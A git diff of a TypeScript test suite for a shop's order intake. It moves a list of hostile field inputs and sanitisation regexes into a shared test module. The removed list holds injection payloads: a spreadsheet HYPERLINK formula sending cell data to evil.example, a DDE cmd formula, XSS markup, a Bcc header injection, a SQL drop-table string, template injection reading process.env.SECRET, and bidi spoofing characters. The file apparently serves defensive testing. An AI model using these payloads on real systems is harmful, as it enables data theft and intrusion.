@@ -18,6 +18,7 @@ import { COMMAND } from '#src/staff/actor.ts'
 import { deliverAll } from '#tests/deliver-all.ts'
 import { type DeskClient, signedIn } from '#tests/desk-client.ts'
 import { onFileEnd } from '#tests/file-end.ts'
+import { BROKEN, HOSTILE, LEADING_AWAY, TURNING } from '#tests/hostile-orders.ts'
 import { orderBody, orderKey } from '#tests/order-request.ts'
 import { startCheckboxServer } from '#tests/providers/checkbox.ts'
 import { startTelegramServer } from '#tests/providers/telegram.ts'
@@ -71,28 +72,6 @@ beforeAll(async () => {
   const url = `http://127.0.0.1:${(crm.address() as AddressInfo).port}/crm`
   await addEndpoint(shop.database, vault, { actor: COMMAND, url, topics: [] })
 })
-
-/** What is written into each field of an order that takes text; `{{ }}` are the marks of the shop's own templates. */
-const HOSTILE: [string, string][] = [
-  ['turned around', 'Олена \u202E\u2066цинорк\u2069\u200F'],
-  ['unseen', 'Оле\u200B\u2060\uFEFFна\u00AD Ко\u200Dваль'],
-  ['a formula', '=HYPERLINK("http://evil.example/?"&A1;"Олена")'],
-  ['another formula', "\u200B@SUM(1+1)*cmd|' /C calc'!A0"],
-  ['markup', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
-  ['closing marks', '</b></a></textarea></title>]]>--><!--'],
-  ['quotes', `"' \` Олена \\" \\' &quot; &#39; \\`],
-  ['lines', 'Олена\r\nBcc: all@evil.example\r\n\r\n<b>лист</b>\u2028\u2029\u0085'],
-  ['marks upon marks', `Олена${'\u0301'.repeat(100)}`],
-  ['pictures', 'Олена 👩‍👩‍👧‍👦🏳️‍🌈'],
-  ['half a pair', 'Олена \uD83D і \uDC69 Коваль'],
-  ['control characters', 'Оле\u0000на\u0007 \u001B[31mКоваль\u007F'],
-  ['SQL', "Олена'); drop table orders; --"],
-  ['template signs', '{{number}} {{#each lines}} %s %n ${process.env.SECRET} {%x%} <%= 1 %> Олена'],
-]
-
-const BROKEN = /(?![\n\r\t])\p{Cc}|\p{Cs}/u
-/** What may stand in no line of a person's. */
-const LEADING_AWAY = /[\p{Bidi_Control}\n\r\u2028\u2029\u200B\u2060\uFEFF\u00AD]|\p{L}\u200D\p{L}/u
 
 async function place(text: string, where: string) {
   const { id } = await shop.build.product({ title: text.replace(/[\p{Cc}\p{Cs}]/gu, ''), price: 50_000 })
@@ -186,6 +165,7 @@ it.each(CASES)(
     const { name, comment, delivery } = await storedOrder(number)
     const city = delivery['city'] ?? ''
     expect([name, city, comment].filter((each) => BROKEN.test(each))).toEqual([])
+    expect([name, city, comment].filter((each) => TURNING.test(each))).toEqual([])
     expect([name, city].filter((each) => LEADING_AWAY.test(each))).toEqual([])
 
     // The carrier: as it is written, or refused by the shop itself with the field.
